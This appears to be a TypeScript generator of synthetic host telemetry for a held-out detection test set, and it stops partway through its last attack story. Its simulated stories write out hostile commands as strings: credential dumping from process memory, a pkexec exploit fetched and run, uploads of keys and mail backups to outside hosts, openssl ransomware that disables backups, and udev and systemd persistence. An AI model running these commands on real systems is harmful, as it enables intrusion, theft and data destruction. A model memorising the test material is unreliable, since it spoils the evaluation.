import { jumpHost } from './heldout';
import { hex, hostBackground, nodeExporter, socket, UNSET } from './heldout3';
import { at, companyWorkday, isWeekend, nightlyBackup, pick, unpackPackage, weekday } from './routines';
import { companyHost, playStories, type StorySet, type StorySetOptions } from './company';
import type { Story } from './stories';
import { DAY, HOUR, Host, splitLabelled, xorshift, type Row } from './world';

// The fourth held-out story set (`--stories heldout4`, branch heldout4), written blind like the
// third: without reading the scorer's parsing, features, models or calibration, from what Linux
// intrusions and admin work leave in the tables the product's pack collects. It keeps to what
// that pack really logs: socket_events without loopback peers, file_events only under the
// pack's file_paths (cron, systemd units, sudoers, ssh keys, passwd/shadow) and never a
// deletion, so an attacker's files elsewhere (a user's systemd units, udev rules, /dev/shm)
// show only through the processes that write and run them.
//
// The company: the independent set's three hosts, the bastion of the second set, and two host
// roles no set has had: a mail server (postfix from the internet, dovecot over IMAPS, webmail,
// a mail admin three mornings a week) and a Kubernetes worker node (kubelet, containerd, pods
// started through runc, CronJob pods, exec probes, kube-proxy's iptables). Ten attacks, none a
// story of sets 1-3, each from MITRE ATT&CK techniques for Linux; five benign first times,
// labelled normal. Only the attacker's own activity is labelled anomalous.

type Rand = () => number;

// ---- addresses of the company ----
const PG = '10.40.2.7';
const API_SERVER = '10.40.0.30';
const KUBE_SERVICE = '10.96.0.1';
const REGISTRY = '10.40.0.6';
const VAULT = '10.40.0.9';

/** the file_paths conf/osquery.example.conf had when this set was measured blind (2026-12-07; the
 * config watches more places since), which the pack's file_events query reads */
const WATCHED =
  /^(\/etc\/cron\.d\/|\/etc\/systemd\/system\/|\/var\/spool\/cron\/|\/etc\/sudoers\.d\/|\/etc\/rc\.local$|\/home\/[^/]+\/\.ssh\/|\/root\/\.ssh\/|\/etc\/passwd$|\/etc\/shadow$|\/etc\/sudoers$)/;

/**
 * Whether the pack's query would return the row: socket_events leave loopback peers out,
 * file_events see only the watched paths (known_hosts excluded) and no deletion.
 */
function packReturns(row: Row): boolean {
  if (row.query === 'pack_hids_socket_events') return !row.columns.remote_address.startsWith('127.');
  if (row.query === 'pack_hids_file_events')
    return WATCHED.test(row.columns.target_path) && !row.columns.target_path.endsWith('/.ssh/known_hosts') && row.columns.action !== 'DELETED';
  return true;
}

// ---- routines: the background the stories play against ----

/** the public relays other companies' mail arrives from, and the MX hosts ours goes to */
const SENDER_NETS = ['209.85', '40.107', '54.240', '198.2', '185.12', '91.198', '52.100'];
const MX_NETS = ['142.250', '64.233', '52.101', '104.47', '67.195'];
const publicAddress = (r: Rand, nets: readonly string[]) => `${pick(r, nets)}.${1 + Math.floor(r() * 250)}.${1 + Math.floor(r() * 250)}`;
const sortedTimes = (n: number, draw: () => number) => Array.from({ length: n }, draw).sort((a, b) => a - b);

/**
 * The mail server: postfix's master spawns smtpd for mail from the internet and smtp for mail
 * out, dovecot's login processes take IMAPS connections from the office and from phones and
 * spawn an imap process per session, rspamd refreshes its maps; at night the queue is quiet.
 */
export function mailServer(h: Host, day: number, r: Rand): void {
  for (const [pid, port] of [
    ['1100', 25],
    ['1100', 587],
    ['1150', 993],
    ['900', 443],
  ] as const)
    h.listen(day + 60, pid, port, '0.0.0.0');
  const scale = isWeekend(day) ? 0.3 : 1;
  const spool = { cwd: '/var/spool/postfix' };
  // mail arrives around the clock, most of it in office hours
  const inbound = sortedTimes(Math.floor((50 + r() * 40) * scale) + 6, () => (r() < 0.75 ? at(day, 7, r, 11 * 60) : day + Math.floor(r() * DAY)));
  let smtpd = '';
  for (const t of inbound) {
    if (!smtpd || r() < 0.2) smtpd = h.exec(t, 'postfix', '/usr/lib/postfix/sbin/smtpd', 'smtpd -n smtp -t inet -u -c -o stress= -s 2', '1100', spool);
    socket(h, r, t, {
      pid: smtpd,
      path: '/usr/lib/postfix/sbin/smtpd',
      action: 'accept',
      address: publicAddress(r, SENDER_NETS),
      port: 0,
      localPort: 25,
      auid: UNSET,
    });
    if (r() < 0.15) h.exec(t + 1, 'postfix', '/usr/lib/postfix/sbin/cleanup', 'cleanup -z -t unix -u -c', '1100', spool);
    if (r() < 0.15) h.exec(t + 2, 'vmail', '/usr/lib/dovecot/lmtp', 'dovecot/lmtp', '1150', { cwd: '/var/vmail' });
  }
  const outbound = sortedTimes(Math.floor((15 + r() * 20) * scale) + 2, () => at(day, 8, r, 10 * 60));
  for (const t of outbound) {
    const smtp = h.exec(t, 'postfix', '/usr/lib/postfix/sbin/smtp', 'smtp -t unix -u -c', '1100', spool);
    socket(h, r, t + 1, { pid: smtp, path: '/usr/lib/postfix/sbin/smtp', action: 'connect', address: publicAddress(r, MX_NETS), port: 25, auid: UNSET });
  }
  const sessions = sortedTimes(Math.floor((30 + r() * 30) * scale) + 3, () => (r() < 0.8 ? at(day, 7, r, 11 * 60) : day + Math.floor(r() * DAY)));
  let login = '';
  for (const t of sessions) {
    if (!login || r() < 0.3) login = h.exec(t, 'dovenull', '/usr/lib/dovecot/imap-login', 'dovecot/imap-login', '1150', { cwd: '/run/dovecot/login' });
    const office = r() < 0.7;
    socket(h, r, t, {
      pid: login,
      path: '/usr/lib/dovecot/imap-login',
      action: 'accept',
      address: office ? `10.40.8.${pick(r, [21, 37, 44, 52, 61, 63, 70])}` : publicAddress(r, ['89.204', '176.3', '80.187', '31.16']),
      port: 0,
      localPort: 993,
      auid: UNSET,
    });
    h.exec(t + 1, 'vmail', '/usr/lib/dovecot/imap', 'dovecot/imap', '1150', { cwd: '/var/vmail' });
  }
  // webmail: Roundcube's workers talk to dovecot and postfix over loopback, which the pack does not log
  for (let i = 0; i < 2 + Math.floor(r() * 4 * scale); i++)
    h.exec(at(day, 8, r, 9 * 60), 'www-data', '/usr/sbin/php-fpm8.2', 'php-fpm: pool roundcube', '950', { cwd: '/var/www/roundcube' });
  for (const [exe, cmd] of [
    ['/usr/lib/postfix/sbin/anvil', 'anvil -l -t unix -u -c'],
    ['/usr/lib/postfix/sbin/tlsmgr', 'tlsmgr -l -t unix -u -c'],
    ['/usr/lib/postfix/sbin/pickup', 'pickup -l -t unix -u -c'],
  ] as const)
    if (r() < 0.7) h.exec(day + Math.floor(r() * DAY), 'postfix', exe, cmd, '1100', spool);
  const maps = at(day, 4, r, 120);
  socket(h, r, maps, { pid: '1170', path: '/usr/bin/rspamd', action: 'connect', address: pick(r, ['88.99.142.95', '135.181.87.178']), port: 443, auid: UNSET });
}

/** the mail admin: Monday, Wednesday and Friday mornings, the queue, the log and the sessions */
export function mailAdmin(h: Host, day: number, r: Rand, who: string): void {
  if (![1, 3, 5].includes(weekday(day))) return;
  const start = at(day, 9, r, 60);
  h.login(start, who, '10.40.8.61');
  const shell = h.session(start, who);
  const cmds: Array<[string, string, boolean?]> = [
    ['/usr/sbin/postqueue', 'postqueue -p'],
    ['/usr/bin/mailq', 'mailq'],
    ['/usr/bin/doveadm', 'doveadm who', true],
    ['/usr/bin/tail', 'tail -n 300 /var/log/mail.log'],
    ['/usr/bin/grep', 'grep -c "reject:" /var/log/mail.log'],
    ['/usr/bin/rspamc', 'rspamc stat'],
    ['/usr/sbin/postsuper', 'postsuper -d ALL deferred', true],
    ['/usr/bin/df', 'df -h /var/vmail'],
  ];
  let t = start + 40;
  for (let i = 0; i < 5 + Math.floor(r() * 6); i++) {
    const [exe, cmd, root] = pick(r, cmds);
    if (root) {
      const sudo = h.exec(t, who, '/usr/bin/sudo', `sudo ${cmd}`, shell, { euid: '0' });
      h.exec(t + 1, who, exe, cmd, sudo, { uid: '0', euid: '0' });
      if (r() < 0.6) h.history(t, who, `sudo ${cmd}`);
    } else {
      h.exec(t, who, exe, cmd, shell);
      if (r() < 0.6) h.history(t, who, cmd);
    }
    t += 30 + Math.floor(r() * 400);
  }
}

/** a pod as containerd starts it: the CNI plugin, the shim, runc, the sandbox and the workload's container */
interface Pod {
  shim: string;
  id: string;
  main: string;
}

function startPod(h: Host, t: number, r: Rand, uid: string, exe: string, cmd: string, cwd: string, tag: { story?: string; novelty?: string } = {}): Pod {
  const id = hex(r, 64);
  const root = { uid: '0', cwd: '/', ...tag };
  h.exec(
    t,
    null,
    '/usr/bin/mount',
    `mount -t tmpfs -o size=4g tmpfs /var/lib/kubelet/pods/${hex(r, 8)}-${hex(r, 4)}/volumes/kubernetes.io~projected/kube-api-access-${hex(r, 5)}`,
    '1200',
    root,
  );
  h.exec(t + 1, null, '/opt/cni/bin/calico', '/opt/cni/bin/calico', '1190', root);
  const shim = h.exec(
    t + 2,
    null,
    '/usr/bin/containerd-shim-runc-v2',
    `/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id ${id} -address /run/containerd/containerd.sock`,
    '1190',
    root,
  );
  const bundle = `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${id}`;
  h.exec(
    t + 3,
    null,
    '/usr/bin/runc',
    `runc --root /run/containerd/runc/k8s.io --log ${bundle}/log.json --log-format json create --bundle ${bundle} --pid-file ${bundle}/init.pid ${id}`,
    shim,
    root,
  );
  h.exec(t + 3, null, '/pause', '/pause', shim, root);
  const cid = hex(r, 64);
  const cb = `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${cid}`;
  h.exec(
    t + 5,
    null,
    '/usr/bin/runc',
    `runc --root /run/containerd/runc/k8s.io --log ${cb}/log.json --log-format json create --bundle ${cb} --pid-file ${cb}/init.pid ${cid}`,
    shim,
    root,
  );
  h.exec(t + 5, null, '/usr/bin/runc', 'runc init', shim, root);
  const main = h.exec(t + 6, null, exe, cmd, shim, { uid, cwd, ...tag });
  return { shim, id: cid, main };
}

/** `runc exec` into a running container, as the kubelet's exec probes and `kubectl exec` both arrive: the command's pid */
function execInPod(
  h: Host,
  t: number,
  r: Rand,
  pod: Pod,
  uid: string,
  exe: string,
  cmd: string,
  cwd: string,
  opts: { tty?: boolean; story?: string; novelty?: string } = {},
): string {
  const b = `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${pod.id}`;
  const n = Math.floor(r() * 1e9);
  const tty = opts.tty ? ` --console-socket /tmp/pty${n % 100000}/pty.sock` : '';
  const tag = { story: opts.story, novelty: opts.novelty };
  const runc = h.exec(
    t,
    null,
    '/usr/bin/runc',
    `runc --root /run/containerd/runc/k8s.io --log ${b}/log.json --log-format json exec --process /tmp/runc-process${n}${tty} --detach --pid-file ${b}/${hex(r, 64)}.pid ${pod.id}`,
    pod.shim,
    { uid: '0', cwd: '/', ...tag },
  );
  const init = h.exec(t, null, '/usr/bin/runc', 'runc init', runc, { uid: '0', cwd: '/', ...tag });
  return h.exec(t + 1, null, exe, cmd, init, { uid, cwd, ...tag });
}

export interface KubeNodeState {
  /** every rollout of the shop's API, oldest first: a story execs into the one running then */
  api: Array<{ since: number; pod: Pod }>;
  redis?: Pod;
  worker?: Pod;
}

/**
 * The Kubernetes worker node: the kubelet keeps its connection to the API server, kube-proxy
 * rewrites iptables, the shop's API, its Celery worker and a Redis run as pods (the API is
 * rolled out again on some working days), Redis is checked by an exec probe, and CronJob pods
 * come and go: a nightly report and a cache warm-up every four hours.
 */
export function kubeNode(h: Host, day: number, r: Rand, pods: KubeNodeState): void {
  h.listen(day + 60, '1200', 10250, '0.0.0.0');
  h.listen(day + 60, '1210', 10256, '0.0.0.0');
  for (let i = 0; i < 3 + Math.floor(r() * 4); i++)
    socket(h, r, day + Math.floor(r() * DAY), { pid: '1200', path: '/usr/bin/kubelet', action: 'connect', address: API_SERVER, port: 6443, auid: UNSET });
  for (let i = 0; i < 6 + Math.floor(r() * 6); i++)
    h.exec(day + Math.floor(r() * DAY), null, '/usr/sbin/iptables-restore', 'iptables-restore -w 5 -W 100000 --noflush --counters', '1210', {
      uid: '0',
      cwd: '/',
    });
  const pull = (t: number) => socket(h, r, t, { pid: '1190', path: '/usr/bin/containerd', action: 'connect', address: REGISTRY, port: 5000, auid: UNSET });
  if (!pods.redis) pods.redis = startPod(h, day + 600, r, '999', '/usr/local/bin/redis-server', 'redis-server *:6379', '/data');
  if (!pods.worker) {
    pull(day + 650);
    pods.worker = startPod(h, day + 660, r, '10001', '/usr/local/bin/python3', '/usr/local/bin/python3 -m celery -A shop worker -l info', '/srv');
  }
  if (!pods.api.length || (!isWeekend(day) && r() < 0.5)) {
    const t = pods.api.length ? at(day, 10, r, 7 * 60) : day + 700;
    pull(t - 5);
    pods.api.push({ since: t + 6, pod: startPod(h, t, r, '10001', '/usr/local/bin/node', 'node dist/server.js', '/app') });
  }
  for (let i = 0; i < 2 + Math.floor(r() * 3); i++)
    socket(h, r, day + Math.floor(r() * DAY), {
      pid: pods.api[pods.api.length - 1].pod.main,
      path: '/usr/local/bin/node',
      action: 'connect',
      address: PG,
      port: 5432,
      auid: UNSET,
    });
  for (let hour = Math.floor(r() * 3); hour < 24; hour += 2 + Math.floor(r() * 2))
    execInPod(h, at(day, hour, r, 50), r, pods.redis, '999', '/usr/local/bin/redis-cli', 'redis-cli ping', '/data');
  const report = startPod(h, at(day, 1, r, 5), r, '10001', '/usr/local/bin/python3', '/usr/local/bin/python3 /app/report.py --since yesterday', '/app');
  socket(h, r, at(day, 1, r, 5) + 10, { pid: report.main, path: '/usr/local/bin/python3', action: 'connect', address: PG, port: 5432, auid: UNSET });
  for (let hour = 0; hour < 24; hour += 4) {
    const t = at(day, hour, r, 10);
    const warm = startPod(h, t, r, '65534', '/bin/sh', '/bin/sh -c wget -qO- http://10.96.14.3:8080/internal/warm', '/');
    const wget = h.exec(t + 7, null, '/usr/bin/wget', 'wget -qO- http://10.96.14.3:8080/internal/warm', warm.main, { uid: '65534', cwd: '/' });
    socket(h, r, t + 8, { pid: wget, path: '/usr/bin/wget', action: 'connect', address: '10.96.14.3', port: 8080, auid: UNSET });
  }
}

/** the operator looks at the node on Thursdays: containers, the kubelet's log, the disk */
export function nodeCheck(h: Host, day: number, r: Rand, who: string): void {
  if (weekday(day) !== 4) return;
  const start = at(day, 11, r, 90);
  h.login(start, who, '10.40.8.44');
  const shell = h.session(start, who);
  let t = start + 30;
  for (const cmd of ['crictl ps', 'crictl pods', 'journalctl -u kubelet --since -2h', 'systemctl status containerd', 'df -h /var/lib/containerd']) {
    if (r() < 0.25) continue;
    const exe = `/usr/bin/${cmd.split(' ')[0]}`;
    if (cmd.startsWith('crictl')) {
      const sudo = h.exec(t, who, '/usr/bin/sudo', `sudo ${cmd}`, shell, { euid: '0' });
      h.exec(t + 1, who, exe, cmd, sudo, { uid: '0', euid: '0' });
      h.history(t, who, `sudo ${cmd}`);
    } else {
      h.exec(t, who, exe, cmd, shell);
      h.history(t, who, cmd);
    }
    t += 20 + Math.floor(r() * 200);
  }
}

// ---- attacks ----

export function heldout4Attacks(rand: Rand, pods: KubeNodeState): Story[] {
  const r = rand;
  return [
    {
      id: 'proc-mem-dump',
      title:
        "OS credential dumping from process memory (T1003.007, with ptrace via gdb's gcore): a root key used from another compromised internal host at 3 a.m. dumps dovecot's auth process and sshd and greps the cores for passwords",
      host: 'mail-1',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const from = '10.40.3.71';
        const cwd = { cwd: '/root', ...s };
        h.login(t, 'root', from, s);
        const shell = h.session(t, 'root', s);
        h.exec(t + 15, 'root', '/usr/bin/pgrep', 'pgrep -a -f dovecot/auth', shell, cwd);
        for (const [i, [pid, name]] of (
          [
            ['1162', 'a'],
            [h.sshdPid, 's'],
          ] as const
        ).entries()) {
          const tt = t + 40 + i * 90;
          const gcore = h.exec(tt, 'root', '/usr/bin/gcore', `gcore -o /dev/shm/.${name} ${pid}`, shell, cwd);
          h.exec(
            tt + 1,
            'root',
            '/usr/bin/gdb',
            `/usr/bin/gdb -nx --batch -ex set pagination off -ex set height 0 -ex set width 0 -ex attach ${pid} -ex gcore /dev/shm/.${name}.${pid} -ex detach -ex quit`,
            gcore,
            cwd,
          );
          const sh = h.exec(tt + 30, 'root', '/bin/bash', '-bash', shell, cwd);
          h.exec(tt + 30, 'root', '/usr/bin/strings', `strings -n 6 /dev/shm/.${name}.${pid}`, sh, cwd);
          h.exec(tt + 30, 'root', '/usr/bin/grep', "grep -a -i -E -A2 'PLAIN|passw|auth_request'", sh, cwd);
        }
        h.exec(t + 260, 'root', '/usr/bin/shred', 'shred -u /dev/shm/.a.1162 /dev/shm/.s.612', shell, cwd);
      },
    },
    {
      id: 'kubectl-exec-pivot',
      title:
        "container administration command (T1609) with a leaked CI deploy token, then the pod's service account token (T1528) used against the API (T1552.007), and a privileged hostPID pod that nsenters into the node (T1611)",
      host: 'k8s-node-2',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const api = pods.api.filter((p) => p.since < t).pop()!.pod;
        const app = { cwd: '/app', ...s };
        const sh = execInPod(h, t, r, api, '10001', '/bin/sh', 'sh', '/app', { tty: true, ...s });
        h.exec(t + 12, null, '/usr/bin/id', 'id', sh, { uid: '10001', ...app });
        h.exec(t + 20, null, '/usr/bin/env', 'env', sh, { uid: '10001', ...app });
        h.exec(t + 35, null, '/bin/cat', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', sh, { uid: '10001', ...app });
        const wget = h.exec(
          t + 60,
          null,
          '/usr/bin/wget',
          `wget -qO- --no-check-certificate --header=Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6 https://${KUBE_SERVICE}/api/v1/namespaces/shop/secrets`,
          sh,
          { uid: '10001', ...app },
        );
        socket(h, r, t + 61, { pid: wget, path: '/usr/bin/wget', action: 'connect', address: KUBE_SERVICE, port: 443, auid: UNSET }, s);
        // ten minutes later the pod the attacker creates with the stolen rights lands on this node
        const t2 = t + 600 + Math.floor(r() * 120);
        socket(h, r, t2 - 8, { pid: '1190', path: '/usr/bin/containerd', action: 'connect', address: '104.18.121.25', port: 443, auid: UNSET }, s);
        const pod = startPod(h, t2, r, '0', '/usr/bin/nsenter', 'nsenter -t 1 -m -u -i -n -p -- /bin/bash', '/', s);
        const bash = h.exec(t2 + 7, null, '/bin/bash', '/bin/bash', pod.main, { uid: '0', cwd: '/', ...s });
        const root = { uid: '0', cwd: '/root', ...s };
        h.exec(t2 + 30, null, '/usr/bin/cat', 'cat /etc/kubernetes/kubelet.conf', bash, root);
        h.exec(t2 + 45, null, '/usr/bin/crictl', 'crictl ps', bash, root);
        const curl = h.exec(
          t2 + 70,
          null,
          '/usr/bin/curl',
          `curl -sk --cert /var/lib/kubelet/pki/kubelet-client-current.pem --key /var/lib/kubelet/pki/kubelet-client-current.pem https://${API_SERVER}:6443/api/v1/nodes`,
          bash,
          root,
        );
        socket(h, r, t2 + 71, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: API_SERVER, port: 6443, auid: UNSET }, s);
      },
    },
    {
      id: 'user-timer',
      title:
        "systemd timer persistence in the user's own manager (T1053.006) with lingering enabled: the developer's key used at 9 p.m. from the home VPN drops a helper into ~/.local and a user timer that beacons every two hours (T1071.001)",
      host: 'ci-runner-3',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const home = '/home/dana';
        const helper = `${home}/.local/share/dbus-1/dbus-session-helper`;
        const cwd = { cwd: home, ...s };
        h.login(t, 'dana', '10.40.9.23', s);
        const shell = h.session(t, 'dana', s);
        const steps: Array<[string, string]> = [
          ['/usr/bin/mkdir', `mkdir -p ${home}/.config/systemd/user ${home}/.local/share/dbus-1`],
          ['/usr/bin/curl', `curl -fsSL https://203.0.113.61/s/h -o ${helper}`],
          ['/usr/bin/chmod', `chmod 755 ${helper}`],
          ['/usr/bin/cp', `cp /tmp/.u/dbus-session-helper.service /tmp/.u/dbus-session-helper.timer ${home}/.config/systemd/user/`],
          ['/usr/bin/systemctl', 'systemctl --user daemon-reload'],
          ['/usr/bin/systemctl', 'systemctl --user enable --now dbus-session-helper.timer'],
          ['/usr/bin/loginctl', 'loginctl enable-linger dana'],
        ];
        let tt = t + 20;
        for (const [exe, cmd] of steps) {
          const pid = h.exec(tt, 'dana', exe, cmd, shell, cwd);
          if (exe === '/usr/bin/curl') h.connect(tt + 1, pid, exe, '1001', '203.0.113.61', 443, s);
          h.history(tt, 'dana', cmd, s);
          tt += 8 + Math.floor(r() * 20);
        }
        // the user manager, lingering, runs the helper: no login is behind it
        const manager = h.exec(tt, null, '/usr/lib/systemd/systemd', '/usr/lib/systemd/systemd --user', '1', { uid: '1001', ...cwd });
        const end = t - (t % DAY) + 2 * DAY;
        for (let ft = tt + 5; ft < end; ft += 2 * HOUR + Math.floor(r() * 120)) {
          const pid = h.exec(ft, null, helper, `${helper} --once`, manager, { uid: '1001', ...cwd });
          socket(h, r, ft + 1, { pid, path: helper, action: 'connect', address: '203.0.113.61', port: 443, auid: UNSET }, s);
        }
      },
    },
    {
      id: 'ransom-encrypt',
      title:
        'data encrypted for impact (T1486) and inhibit system recovery (T1490): a root session from a compromised internal host stops the database, disables the nightly backup job and encrypts the dumps and data files with openssl',
      host: 'pg-main',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        const cwd = { cwd: '/root', ...s };
        h.login(t, 'root', '10.40.3.71', s);
        const shell = h.session(t, 'root', s);
        h.exec(t + 20, 'root', '/usr/bin/systemctl', 'systemctl stop postgresql', shell, cwd);
        h.exec(t + 30, 'root', '/usr/bin/sed', 'sed -i s/^/#/ /etc/cron.d/nightly-backup', shell, cwd);
        h.file(t + 30, '/etc/cron.d/nightly-backup', 'UPDATED', s);
        h.exec(t + 40, 'root', '/usr/bin/find', 'find /var/backups /var/lib/postgresql/15/main -type f -size +64k', shell, cwd);
        const loop = h.exec(
          t + 60,
          'root',
          '/bin/bash',
          'bash -c while read f; do openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:K -in "$f" -out "$f.locked" && shred -u "$f"; done < /dev/shm/.l',
          shell,
          cwd,
        );
        const day = Math.floor(t / DAY);
        const files = [
          ...Array.from({ length: 7 }, (_, k) => `/var/backups/pg-main-${day - k}.tar.zst`),
          ...['1259', '2608', '2619', '16401', '16409', '16422'].map((f) => `/var/lib/postgresql/15/main/base/16384/${f}`),
        ];
        let tt = t + 61;
        for (const f of files) {
          h.exec(tt, 'root', '/usr/bin/openssl', `openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:K -in ${f} -out ${f}.locked`, loop, cwd);
          h.exec(tt + 4, 'root', '/usr/bin/shred', `shred -u ${f}`, loop, cwd);
          tt += 6 + Math.floor(r() * 20);
        }
        h.exec(tt + 10, 'root', '/bin/sh', 'sh -c cat > /root/README_RESTORE.txt', shell, cwd);
        h.exec(tt + 12, 'root', '/usr/bin/cp', 'cp /root/README_RESTORE.txt /var/backups/ /var/lib/postgresql/', shell, cwd);
      },
    },
    {
      id: 'pwnkit',
      title:
        'exploitation for privilege escalation (T1068, CVE-2021-4034 in pkexec) from the site worker: a prebuilt exploit fetched and run, a root shell collects TLS keys and the site secrets (T1552.004, T1552.001) and sends them out',
      host: 'edge-web',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        const dir = '/tmp/.X11-unix/.p';
        const cwd = { cwd: dir, ...s };
        // the exploited worker is the site's usual process: unlabelled
        const fpm = h.exec(t, 'www-data', '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', '950', { cwd: '/var/www/shop' });
        const sh = h.exec(t + 1, 'www-data', '/bin/sh', `sh -c mkdir -p ${dir} && cd ${dir} && curl -s http://192.0.2.66/p.tgz | tar xz && ./pk`, fpm, cwd);
        h.exec(t + 1, 'www-data', '/usr/bin/mkdir', `mkdir -p ${dir}`, sh, { ...cwd, cwd: '/var/www/shop/uploads' });
        const curl = h.exec(t + 2, 'www-data', '/usr/bin/curl', 'curl -s http://192.0.2.66/p.tgz', sh, cwd);
        h.connect(t + 3, curl, '/usr/bin/curl', '33', '192.0.2.66', 80, s);
        h.exec(t + 2, 'www-data', '/usr/bin/tar', 'tar xz', sh, cwd);
        const pk = h.exec(t + 4, 'www-data', `${dir}/pk`, './pk', sh, cwd);
        // pkexec started with an empty argv: its command line is empty, and it is setuid root
        const pkexec = h.exec(t + 4, 'www-data', '/usr/bin/pkexec', '', pk, { euid: '0', ...cwd });
        const root = h.exec(t + 5, 'www-data', '/bin/sh', '/bin/sh', pkexec, { uid: '0', euid: '0', ...cwd });
        const asRoot = { uid: '0', euid: '0', ...cwd };
        h.exec(t + 20, 'www-data', '/usr/bin/id', 'id', root, asRoot);
        h.exec(t + 40, 'www-data', '/usr/bin/tar', 'tar czf /dev/shm/.k /etc/letsencrypt /etc/nginx /var/www/shop/.env', root, asRoot);
        const up = h.exec(t + 55, 'www-data', '/usr/bin/curl', 'curl -s -F f=@/dev/shm/.k http://192.0.2.66:8080/u', root, asRoot);
        h.connect(t + 56, up, '/usr/bin/curl', '0', '192.0.2.66', 8080, s);
        h.exec(t + 70, 'www-data', '/usr/bin/rm', `rm -rf ${dir} /dev/shm/.k`, root, asRoot);
      },
    },
    {
      id: 'udev-persistence',
      title:
        'event triggered execution through a udev rule (T1546.017): a root session at 1 a.m. plants a helper and a rule for network devices; udev runs it at once and again with every new pod interface, and it calls home (T1071.001)',
      host: 'k8s-node-2',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        const from = '10.40.3.88';
        const helper = '/usr/lib/udev/kmod-sync';
        const cwd = { cwd: '/root', ...s };
        h.login(t, 'root', from, s);
        const shell = h.session(t, 'root', s);
        const curl = h.exec(t + 20, 'root', '/usr/bin/curl', `curl -so ${helper} http://${from}:8000/ks`, shell, cwd);
        h.connect(t + 21, curl, '/usr/bin/curl', '0', from, 8000, s);
        h.exec(t + 30, 'root', '/usr/bin/chmod', `chmod 755 ${helper}`, shell, cwd);
        h.exec(
          t + 45,
          'root',
          '/bin/sh',
          `sh -c echo 'SUBSYSTEM=="net", ACTION=="add", RUN+="/usr/bin/setsid ${helper}"' > /etc/udev/rules.d/75-kmod-sync.rules`,
          shell,
          cwd,
        );
        h.exec(t + 50, 'root', '/usr/bin/udevadm', 'udevadm control --reload-rules', shell, cwd);
        h.exec(t + 55, 'root', '/usr/bin/udevadm', 'udevadm trigger --action=add --subsystem-match=net', shell, cwd);
        // udevd's worker runs it for the trigger, and later for each pod's new veth interface
        for (const [k, ft] of [t + 56, t + 3 * HOUR + Math.floor(r() * 1800), t + 7 * HOUR + Math.floor(r() * 1800)].entries()) {
          const worker = h.exec(ft, null, '/usr/lib/systemd/systemd-udevd', '(udev-worker)', '420', { uid: '0', cwd: '/', ...s });
          const setsid = h.exec(ft + 1, null, '/usr/bin/setsid', `/usr/bin/setsid ${helper}`, worker, { uid: '0', cwd: '/', ...s });
          socket(h, r, ft + 3, { pid: setsid, path: helper, action: 'connect', address: from, port: 4443, auid: UNSET }, s);
          if (k === 0) h.exec(ft + 20, null, '/bin/sh', 'sh -c uname -a; id; cat /etc/kubernetes/kubelet.conf', setsid, { uid: '0', cwd: '/', ...s });
        }
      },
    },
    {
      id: 'ssh-agent-hijack',
      title:
        "SSH session hijacking through a forwarded agent (T1563.001): the admin's credentials on the bastion, in working hours, take root with sudo, find another admin's agent socket and use it to log in to that admin's hosts (T1021.004)",
      host: 'bastion-1',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        h.login(t, 'kim', '10.40.8.52', s);
        const shell = h.session(t, 'kim', s);
        h.history(t + 20, 'kim', 'sudo -i', s);
        const sudo = h.exec(t + 20, 'kim', '/usr/bin/sudo', 'sudo -i', shell, { euid: '0', ...s });
        const root = { uid: '0', euid: '0', cwd: '/root', ...s };
        const bash = h.exec(t + 21, 'kim', '/bin/bash', '-bash', sudo, root);
        h.exec(t + 40, 'kim', '/usr/bin/ps', 'ps -eo pid,user,lstart,cmd --sort=start_time', bash, root);
        h.exec(t + 55, 'kim', '/usr/bin/find', 'find /tmp -maxdepth 2 -type s -name agent.*', bash, root);
        const sock = `/tmp/ssh-${hex(r, 10)}/agent.${4000 + Math.floor(r() * 5000)}`;
        h.exec(t + 70, 'kim', '/usr/bin/ssh-add', 'ssh-add -l', bash, root);
        h.history(t + 70, 'root', `SSH_AUTH_SOCK=${sock} ssh-add -l`, s);
        for (const [i, target] of ['10.40.2.11', '10.40.2.20'].entries()) {
          const tt = t + 100 + i * 140;
          const ssh = h.exec(tt, 'kim', '/usr/bin/ssh', `ssh -o StrictHostKeyChecking=no -l ops ${target}`, bash, root);
          h.connect(tt + 1, ssh, '/usr/bin/ssh', '0', target, 22, s);
          h.history(tt, 'root', `SSH_AUTH_SOCK=${sock} ssh -o StrictHostKeyChecking=no -l ops ${target}`, s);
        }
      },
    },
    {
      id: 'mailbox-exfil',
      title:
        "local email collection (T1114.001) and exfiltration to cloud storage in chunks (T1030, T1567.002): the backup account's key, stolen from the vault, logs in after lunch, splits last night's mail backup and uploads it with curl",
      host: 'mail-1',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        const cwd = { cwd: '/var/backups', ...s };
        h.login(t, 'backup', VAULT, s);
        const shell = h.session(t, 'backup', s);
        const archive = `/var/backups/mail-1-${Math.floor(t / DAY)}.tar.zst`;
        const steps: Array<[string, string]> = [
          ['/usr/bin/ls', 'ls -lh /var/backups'],
          ['/usr/bin/split', `split -b 200M -d ${archive} /var/tmp/.b.`],
        ];
        let tt = t + 20;
        for (const [exe, cmd] of steps) {
          h.exec(tt, 'backup', exe, cmd, shell, cwd);
          h.history(tt, 'backup', cmd, s);
          tt += 25 + Math.floor(r() * 40);
        }
        for (let k = 0; k < 4; k++) {
          const cmd = `curl -s --retry 3 -T /var/tmp/.b.0${k} https://bk-7f3a.s3.eu-central-2.wasabisys.com/m/0${k}?X-Amz-Signature=${hex(r, 16)}`;
          const curl = h.exec(tt, 'backup', '/usr/bin/curl', cmd, shell, cwd);
          socket(h, r, tt + 1, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: '130.117.252.14', port: 443, auid: '998' }, s);
          h.history(tt, 'backup', cmd, s);
          tt += 240 + Math.floor(r() * 120);
        }
